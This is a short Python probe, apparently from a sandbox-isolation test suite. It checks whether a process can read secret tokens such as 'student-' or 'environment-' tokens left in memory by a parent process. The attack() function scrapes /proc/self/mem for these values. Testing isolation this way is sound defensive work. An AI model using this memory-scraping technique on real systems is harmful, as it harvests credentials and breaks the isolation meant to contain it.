"""Its own memory, in which whatever the warm parent has ever seen would lie.

layer: split
walls_off: false
"""
import re

from tools import ESCAPED

PIECES = (b"hidden-", b"environment-", b"file-", b"student-")


def attack():
    try:
        maps = open("/proc/self/maps").read()
        memory = open("/proc/self/mem", "rb")
    except OSError as problem:
        return f"refused: {problem.strerror}"
    pattern = re.compile(b"(?:" + b"|".join(PIECES) + b")token-[0-9a-f]{16}")
    for line in maps.splitlines():
        span, rights = line.split()[:2]
        start, end = (int(part, 16) for part in span.split("-"))
        if rights.startswith("rw") and end - start < 256 << 20:
            try:
                memory.seek(start)
                found = pattern.search(memory.read(end - start))
            except (OSError, ValueError):
                continue
            if found:
                return f"{ESCAPED}: {found[0]!r}"
    return "refused: there is nothing"
